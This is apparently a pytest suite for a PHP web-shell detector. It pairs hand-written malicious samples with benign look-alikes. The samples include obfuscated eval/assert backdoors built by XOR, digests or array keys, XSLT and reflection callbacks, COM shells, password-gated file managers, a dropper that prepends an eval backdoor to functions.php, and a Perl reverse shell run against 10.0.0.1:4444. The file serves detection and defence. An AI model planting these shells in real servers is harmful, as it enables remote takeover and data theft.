"""Shapes of PHP web shells found in the wild beyond the textbook ones (names computed from the
file's own name, digests or XOR of strings; superglobals picked by a computed name; XSLT callbacks;
the request body included as code; constructors reached through reflection; code hidden in doc
comments; COM shells; reverse shells; password-gated command dispatchers; file managers), each
next to a benign look-alike that must stay clean. Samples are written here, none is copied from a
collection."""

from __future__ import annotations

import pytest

from tests.unit.php_shell_asserts import _clean, _hits, _shell


def _xor_pairs(word: str, key: str = "`") -> str:
    """PHP that builds `word` as ("\\xNN" ^ "`") . ("\\xNN" ^ "`") ..."""
    return ".".join(f'("\\x{ord(c) ^ ord(key):02x}"^"{key}")' for c in word)


# -- function names computed by obfuscation -------------------------------------------------------
def test_function_name_cut_from_the_files_own_name():
    # saved as ".../assert.php", the name is only known at run time: a computed name fed the request
    h = _shell("<?php $f = substr(__FILE__, -10, 6); $f($_POST['k']);", rule="php.computed-function")
    assert "__FILE__" in h.snippet and "$_POST['k']" in h.source


def test_the_files_own_name_used_for_paths_is_clean():
    _clean("<?php $dir = substr(__FILE__, 0, -9); require $dir . 'config.php'; $f = 'htmlspecialchars';"
           " echo $f($_GET['q']);")
    _clean("<?php eval('$here = \"' . __FILE__ . '\";'); echo $here;")


def test_function_name_cut_from_a_known_digest():
    # md5('a') = 0cc175b9c0f1b6a831c399e269772661: 'a' at 14, 'e' at 22
    _shell("<?php $h = md5('a'); $f = substr($h, 14, 1) . 'ss' . substr($h, 22, 1) . 'rt'; $f($_REQUEST['x']);",
           rule="php.request-to-code", sink="assert")


def test_a_digest_used_as_a_cache_key_is_clean():
    _clean("<?php $k = md5('page'); $t = substr($k, 0, 8); header('ETag: ' . $t); echo htmlspecialchars($_GET['q']);")


def test_function_name_built_by_xor_of_strings():
    _shell(f"<?php $f = {_xor_pairs('assert')}; $f($_POST['z']);", rule="php.request-to-code", sink="assert")
    # mangled bytes that come to no function we know: still a computed name fed the request
    _shell(f"<?php $f = {_xor_pairs('qqqqqq')}; $f($_POST['z']);", rule="php.computed-function")


def test_xor_of_strings_in_a_checksum_is_clean():
    _clean("<?php $a = 'abcd' ^ 'wxyz'; echo bin2hex($a); $n = strtoupper($_GET['n']); echo htmlspecialchars($n);")


def test_a_superglobal_picked_by_a_computed_name():
    _shell("<?php ${'_'.$_}['_'](${'_'.$_}['__']);", rule="php.request-function")
    name = _xor_pairs("_POST", "!")
    _shell(f"<?php $n = {name}; $p = $$n; $f = {_xor_pairs('assert')}; $f($p['x']);", sink="assert")


def test_variable_variables_with_a_plain_prefix_are_clean():
    _clean("<?php $key = $_GET['k']; $v = ${'cfg_' . $key}; echo htmlspecialchars($v);")


# -- other ways to run code ---------------------------------------------------------------------
def test_xslt_stylesheet_calling_a_sink_through_php_callbacks():
    xsl = """<?xml version="1.0"?>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:p="http://php.net/xsl">
 <xsl:template match="/"><xsl:value-of select="p:function('system', string(.))"/></xsl:template>
</xsl:stylesheet>"""
    _shell(xsl, rule="php.xsl-callback", sink="system")
    _shell("<?php $q = \"//a[php:functionString('assert', '$c')]\"; $x = new DOMXPath($d);"
           " $x->registerNamespace('php', 'http://php.net/xpath'); $x->registerPhpFunctions(); $x->query($q);",
           rule="php.xsl-callback")


def test_xslt_stylesheet_with_harmless_php_callbacks_is_clean():
    _clean("""<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
 xmlns:php="http://php.net/xsl"><xsl:value-of select="php:function('ucfirst', string(.))"/></xsl:stylesheet>""")


def test_include_of_the_request_body():
    _shell("<?php ini_set('allow_url_include', 1); include('php://input');", rule="php.request-include",
           source="php://input")


def test_reading_the_request_body_as_data_is_clean():
    _clean("<?php $body = file_get_contents('php://input'); $d = json_decode($body, true); echo count($d);")


def test_upload_saved_under_a_fixed_script_name():
    _shell('<form enctype="multipart/form-data"><input name="userfile" type="file"></form>'
           '<?php move_uploaded_file($userfile, "x1.php"); ?>', rule="php.uploader")


def test_upload_saved_as_an_image_is_clean():
    _clean("<?php if (getimagesize($_FILES['f']['tmp_name'])) {"
           " move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/avatar.png'); }")


def test_constructor_reached_through_reflection():
    code = """<?php
class Runner { public function __construct($fn, $arg) { $fn($arg); } }
$rc = new ReflectionClass('Runner');
$rc->newInstance($_POST['a'], $_POST['b']);"""
    _shell(code, rule="php.request-function")
    _shell(code.replace("newInstance($_POST['a'], $_POST['b'])", "newInstanceArgs(array($_POST['a'], $_POST['b']))"),
           rule="php.request-function")


def test_reflection_that_builds_a_service_is_clean():
    _clean("""<?php
class Mailer { private $cfg; public function __construct($cfg) { $this->cfg = $cfg; } }
$rc = new ReflectionClass('Mailer');
$m = $rc->newInstance(array('host' => $_POST['host']));""")


def test_code_hidden_in_a_doc_comment():
    code = """<?php
/**
 * eval($_POST['c']);
 */
class Doc {}
$rc = new ReflectionClass('Doc');
$c = $rc->getDocComment();
eval(substr($c, strpos($c, 'eval'), 18));"""
    _shell(code, rule="php.obfuscated-eval")


def test_doc_comments_read_for_annotations_are_clean():
    _clean("""<?php
class Ctl { /** @route /home */ public function home() {} }
$m = new ReflectionMethod('Ctl', 'home');
if (preg_match('/@route\\s+(\\S+)/', $m->getDocComment(), $r)) { echo htmlspecialchars($r[1]); }""")


def test_com_shell_objects():
    _shell("<?php $w = new COM('WScript.Shell'); $w->Run('cmd /c dir', 0, false);", rule="php.com-shell")


def test_com_for_a_database_is_clean():
    _clean("<?php $c = new COM('ADODB.Connection'); $c->Open('Provider=SQLOLEDB'); echo 'ok';")


def test_server_array_by_position_is_request_data():
    _shell("<?php $a = array_values($_SERVER); system($a[6]);", rule="php.request-to-exec")


def test_server_array_read_by_name_is_clean():
    _clean("<?php $h = array(); foreach ($_SERVER as $k => $v) { if (strpos($k, 'HTTP_') === 0) { $h[$k] = 1; } }"
           " echo count($h); system('uptime');")


@pytest.mark.parametrize("keys", ["array('a'=>1,'s'=>2,'e'=>3,'r'=>4,'t'=>5)"])
def test_function_name_from_array_keys(keys):
    _shell(f"<?php $k = array_keys({keys}); $f = $k[0].$k[1].$k[1].$k[2].$k[3].$k[4]; $f($_POST['x']);",
           sink="assert")


# -- register_globals era -------------------------------------------------------------------------
def test_names_built_on_undefined_variables():
    # an undefined variable is "" in PHP: obfuscators grow names on one
    _shell("<?php $n = $n . substr('xxbase64_', 2, 7); $n = $n . 'decode'; $s = $s . 'ass'; $s = $s . 'ert';"
           " $s($n($_POST['p']));", sink="assert", source="$_POST['p']")


def test_register_globals_variable_confirmed_by_the_pages_form():
    page = '<form method="post"><input type="text" name="command"></form><?php system($command); ?>'
    _shell(page, rule="php.request-to-exec", sink="system")
    # the same call with no form posting that name stays a guess
    _clean('<form method="post"><input type="text" name="host"></form><?php system($command); ?>')


# -- command helpers, database clients, sockets -----------------------------------------------------
_FALLBACK = """<?php
function run_cmd($c) {
    $out = '';
    if (function_exists('exec')) { exec($c, $o); $out = implode("\\n", $o); }
    elseif (function_exists('shell_exec')) { $out = shell_exec($c); }
    elseif (function_exists('system')) { ob_start(); system($c); $out = ob_get_clean(); }
    elseif (function_exists('passthru')) { ob_start(); passthru($c); $out = ob_get_clean(); }
    return $out;
}
"""


def test_command_runner_with_the_disable_functions_fallback_chain():
    _shell(_FALLBACK, rule="php.exec-wrapper")


def test_a_single_command_helper_is_clean():
    _clean("<?php function git_rev($dir) { return exec('git -C ' . escapeshellarg($dir) . ' rev-parse HEAD'); }")
    _clean("<?php function run($c) { return shell_exec($c); } echo run('uptime');")


def test_database_client_on_request_credentials():
    h = _shell("<?php $l = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']);"
               " $r = mysqli_query($l, $_POST['sql']); while ($row = mysqli_fetch_row($r)) print_r($row);",
               rule="php.sql-client")
    assert "$_POST['sql']" in h.source


def test_database_page_with_a_parameterised_query_is_clean():
    _clean("<?php $l = mysqli_connect('localhost', 'app', 'secret', 'shop');"
           " $r = mysqli_query($l, 'SELECT name FROM item WHERE id = ' . intval($_GET['id']));"
           " $q = mysqli_query($l, \"SELECT * FROM t WHERE n = '\""
           " . mysqli_real_escape_string($l, $_GET['n']) . \"'\");")


def test_listener_on_a_request_given_address():
    _shell("<?php $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_bind($s, $_GET['ip'], $_GET['port']);"
           " socket_listen($s);", rule="php.socket-listener")


def test_listener_on_a_fixed_address_is_clean():
    _clean("<?php $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_bind($s, '127.0.0.1', 9000);"
           " socket_listen($s); $c = socket_accept($s); socket_write($c, 'hello');")


def test_client_connection_handed_to_a_program():
    _shell("<?php system('./reuse ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['REMOTE_PORT']);",
           rule="php.reverse-shell")


def test_logging_the_client_address_is_clean():
    _clean("<?php system('logger visit from ' . escapeshellarg($_SERVER['REMOTE_ADDR']));")


def test_register_globals_variable_with_a_default_keeps_its_guess():
    page = ('<form method="post"><input name="cmd"></form>'
            '<?php if ($cmd == "") { $cmd = "dir"; } system($cmd); ?>')
    _shell(page, rule="php.request-to-exec")


def test_a_variable_set_before_it_is_read_is_no_guess():
    _clean('<form method="post"><input name="cmd"></form><?php $cmd = "uptime"; system($cmd); ?>')


def test_stream_wrapper_in_front_of_a_request_path():
    _shell("<?php $f = $_POST['file']; copy('compress.zlib://' . $f, '/tmp/x'); readfile('/tmp/x');",
           rule="php.wrapper-bypass")


def test_stream_wrapper_on_a_fixed_path_is_clean():
    _clean("<?php $d = file_get_contents('compress.zlib://' . __DIR__ . '/data.gz'); echo strlen($d);"
           " echo htmlspecialchars($_GET['q']);")


def test_code_downloaded_into_a_script_file():
    _shell("<?php $t = file_get_contents('https://paste.example/raw/x1');"
           " $h = fopen($_SERVER['DOCUMENT_ROOT'] . '/wp-footer.php', 'w'); fwrite($h, $t); fclose($h);",
           rule="php.request-file-write")
    _shell("<?php $u = 'http://example.test/t/a1.php'; $f = pathinfo($u, PATHINFO_BASENAME);"
           " $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); file_put_contents($f, curl_exec($c));",
           rule="php.request-file-write")


def test_downloaded_data_saved_as_data_is_clean():
    _clean("<?php $t = file_get_contents('https://api.example/rates.json');"
           " file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/cache/rates.json', $t);")


def test_table_dump_on_request_credentials():
    _shell("<?php $l = mysql_connect($_POST['host'], $_POST['user'], $_POST['pass']);"
           " $r = mysql_query('SHOW TABLES'); while ($t = mysql_fetch_row($r)) { echo $t[0]; }", rule="php.sql-client")


def test_table_listing_on_configured_credentials_is_clean():
    _clean("<?php $l = mysql_connect('localhost', 'app', 'pw'); $r = mysql_query('SHOW TABLES');"
           " while ($t = mysql_fetch_row($r)) { echo htmlspecialchars($t[0]); }")


def test_a_file_tool_that_deletes_itself_scores_higher():
    tool = ("<?php foreach (scandir($_GET['d']) as $f) { echo $f; }"
            " if (isset($_GET['x'])) { file_put_contents($_GET['p'], $_GET['c']); unlink($_GET['r']); }")

    def fm(code):
        return max(h.confidence for h in _hits(code) if h.rule == "php.file-manager")

    assert fm(tool + " unlink(__FILE__);") >= fm(tool) + 0.14


# -- letters counted up from "Array", packed text, payloads in front of old contents ------------------
def test_letters_counted_up_from_array():
    # $_ = ""; $_[0]++ makes an array; "$_" is "Array"; its "A" counted up spells the sink
    steps = {c: ord(c.upper()) - ord("A") for c in "assert"}
    lines = ['$_ = ""; $_[+$_]++; $_ = $_ . ""; $a = $_[+""];']
    names = []
    for i, c in enumerate("assert"):
        lines.append(f"$c{i} = $a;" + f" $c{i}++;" * steps[c])
        names.append(f"$c{i}")
    code = "<?php " + " ".join(lines) + f" $f = {'.'.join(names)}; $f($_POST['x']);"
    _shell(code, sink="assert", source="$_POST['x']")


def test_counting_up_a_counter_is_clean():
    _clean("<?php $n = array(); $n[0]++; $n[0]++; $l = 'A'; $l++; echo $l . count($n) . htmlspecialchars($_GET['q']);")


def _b64(s: str) -> str:
    import base64

    return base64.b64encode(s.encode("latin-1")).decode()


def test_page_printing_a_packed_web_shell():
    shell = "$p = 'x'; if (isset($_POST['p1'])) { eval($_POST['p1']); } echo 'done';" + " " * 200
    _shell(f"<?php echo base64_decode('{_b64(shell)}');", rule="php.packed-shell")


def test_page_printing_packed_markup_is_clean():
    html = "<div class='a'>" + "hello; $5 off " * 30 + "</div>"
    _clean(f"<?php echo base64_decode('{_b64(html)}');")


def test_payload_put_in_front_of_a_files_old_contents():
    payload = "<?php if (isset($_REQUEST['k']) && $_REQUEST['pw'] == '{$PASSWORD}') { eval($_REQUEST['k']); } ?>"
    code = (f"<?php $hash = md5(uniqid());"
            f" $code = str_replace('{{$PASSWORD}}', $hash, base64_decode('{_b64(payload)}'));"
            " $f = $_SERVER['DOCUMENT_ROOT'] . '/functions.php'; $old = file_get_contents($f);"
            " file_put_contents($f, $code . $old);")
    _shell(code, rule="php.dropper")


def test_a_banner_put_in_front_of_a_text_file_is_clean():
    _clean("<?php $f = 'notes.txt'; $old = file_get_contents($f); file_put_contents($f, 'updated: ' . $old);")


def test_statement_built_with_request_data_on_a_request_named_server():
    _shell("<?php $l = mysql_connect($_POST['h'], $_POST['u'], $_POST['p']);"
           " mysql_query(\"select '\" . $_POST['c'] . \"' into dumpfile 'c:/x.mof'\");", rule="php.sql-client")


def test_escaped_value_in_a_statement_on_configured_credentials_is_clean():
    _clean("<?php $l = mysql_connect('db', 'app', 'pw'); mysql_query(\"SELECT * FROM t WHERE n = '\""
           " . mysql_real_escape_string($_POST['n']) . \"'\");")


def test_function_named_in_a_doc_comment():
    code = """<?php
/** assert */
class D {}
$rc = new ReflectionClass('D');
$s = $rc->getDocComment();
$fn = substr($s, strpos($s, 'assert'), 6);
$fn('1');"""
    _shell(code, rule="php.obfuscated-eval")


def test_curl_reading_request_paths_through_file_urls():
    _shell("<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, 'file:file:///' . $_GET['f']); curl_exec($c);",
           rule="php.wrapper-bypass")


def test_curl_fetching_a_fixed_url_is_clean():
    _clean("<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, 'https://api.example/v1/' . urlencode($_GET['q']));"
           " echo htmlspecialchars(curl_exec($c));")


_PERL_BC = ("#!/usr/bin/perl\nuse Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n"
            "connect(S, sockaddr_in($ARGV[1], inet_aton($ARGV[0])));\nopen(STDIN, \">&S\");\nopen(STDOUT, \">&S\");\n"
            "system('/bin/sh -i');\n")


def test_back_connect_script_written_to_disk():
    _shell(f"<?php $f = fopen('/tmp/.x', 'w'); fputs($f, base64_decode('{_b64(_PERL_BC)}')); fclose($f);"
           " shell_exec('perl /tmp/.x 10.0.0.1 4444 &');", rule="php.backconnect-drop")


def test_writing_a_perl_helper_script_is_clean():
    helper = "#!/usr/bin/perl\nuse strict;\nopen(my $fh, '<', $ARGV[0]) or die;\nprint while <$fh>;\n"
    _clean(f"<?php file_put_contents('/tmp/cat.pl', base64_decode('{_b64(helper)}'));")


def test_callback_named_by_xor_fed_a_request_key():
    _shell(f"<?php $f = {_xor_pairs('qqqqqq')}; array_intersect_uassoc(array($_REQUEST['k'] => ''), array(1), $f);",
           rule="php.computed-function")


def _fm(code: str) -> float:
    return max((h.confidence for h in _hits(code) if h.rule == "php.file-manager"), default=0.0)


_LISTER = ("<?php foreach (scandir($_GET['d']) as $f) { echo $f . fileperms($_GET['d'] . '/' . $f); }"
           " echo file_get_contents($_GET['v']); ?>" + "<p>page footer</p>\n" * 300)  # past the small-page rule


def test_a_file_tool_behind_its_own_password_scores_higher():
    base = _LISTER + "<?php echo php_uname(); ?>"
    gated = base.replace("<?php ", "<?php if (md5($_POST['k']) != '0cc175b9c0f1b6a831c399e269772661') die();", 1)
    assert _fm(gated) >= _fm(base) + 0.14 > 0.14
    gated2 = base.replace("<?php ", "<?php if ($_POST['pass'] !== 'letmein') die();", 1)
    assert _fm(gated2) >= _fm(base) + 0.14


def test_a_form_action_compared_with_a_word_is_no_password():
    base = _LISTER + "<?php echo php_uname(); ?>"
    acted = base.replace("<?php ", "<?php if ($_POST['action'] == 'list') {} ", 1)
    assert _fm(acted) == _fm(base) > 0


def test_a_file_tool_reading_the_account_list_scores_higher():
    base = _LISTER + "<?php echo php_uname(); ?>"
    recon = base + "<?php echo file_get_contents('/etc/passwd');"
    assert _fm(recon) >= _fm(base) + 0.09 > 0.09


def test_method_brought_in_by_a_trait_overrides_the_parents():
    code = """<?php
trait Runs { public function go($f, $x) { $f($x); } }
class Base { public function go() { echo 'base'; } }
class Job extends Base { use Runs; }
$j = new Job();
$j->go($_POST['f'], $_POST['x']);"""
    _shell(code, rule="php.request-function")


def test_trait_with_harmless_methods_is_clean():
    _clean("""<?php
trait Greets { public function hi($n) { return 'hi ' . htmlspecialchars($n); } }
class Page { use Greets; }
$p = new Page(); echo $p->hi($_GET['n']);""")


# -- loops run with known values ------------------------------------------------------------------
def _xor_hex(text: str, key: int) -> str:
    return "".join(f"{ord(c) ^ key:02x}" for c in text)


def test_a_for_loop_decoder_over_a_constant_string():
    enc = _xor_hex("system($_POST['c']);", 7)
    code = (f"<?php $e = '{enc}'; $d = '';"
            " for ($i = 0; $i < strlen($e); $i += 2) { $d .= chr(hexdec(substr($e, $i, 2)) ^ 7); } eval($d);")
    _shell(code, rule="php.request-to-exec", sink="system")


def test_a_loop_decoder_with_branches_and_pre_increment():
    # a 16-letter alphabet maps pairs of letters to bytes; `++$i` inside the expression reads the next one
    alpha = "abcdefghijklmnop"
    text = "assert($_REQUEST['z']);"
    enc = "".join(alpha[ord(c) >> 4] + alpha[ord(c) & 15] for c in text)
    code = (f"<?php for ($o = 0, $e = '{alpha}{enc}', $d = ''; $o < strlen($e); $o++) {{"
            " if ($o < 16) { $h[$e[$o]] = $o; } else { $d .= chr(($h[$e[$o]] << 4) + $h[$e[++$o]]); } }"
            " eval($d);")
    _shell(code, sink="assert")


def test_a_loop_building_markup_is_clean():
    _clean("<?php $rows = ''; for ($i = 0; $i < 50; $i++) { if ($i % 2) { $rows .= '<tr class=odd>'; }"
           " else { $rows .= '<tr>'; } $rows .= '<td>' . $i . '</td></tr>'; } echo $rows;"
           " echo htmlspecialchars($_GET['q']);")


def test_a_million_iteration_loop_is_cut_short():
    _clean("<?php $n = 0; for ($i = 0; $i < 1000000; $i++) { $n = $n + $i; } echo $n;")


def test_preg_replace_e_with_a_pattern_built_by_xor():
    _shell(f"<?php $p = {_xor_pairs('/a/e')}; $f = {_xor_pairs('preg_replace')}; $f($p, 'die', 'a');",
           rule="php.obfuscated-eval")


def test_old_style_preg_replace_e_with_a_fixed_pattern_is_clean():
    _clean("<?php $s = preg_replace('/(\\\\w+)/e', 'strtoupper(\"\\\\1\")', 'abc'); echo $s;")


def test_known_conditions_pick_their_side_of_a_ternary():
    code = ("<?php function fetch($url, $file = '') { $file = empty($file) ? basename($url) : $file;"
            " copy($url, $file); } fetch('http://example.test/k/t1.php');")
    _shell(code, rule="php.remote-drop")


def test_a_fetch_helper_saving_data_is_clean():
    _clean("<?php function fetch($url, $file = '') { $file = empty($file) ? basename($url) : $file;"
           " copy($url, $file); } fetch('http://example.test/k/rates.json');")
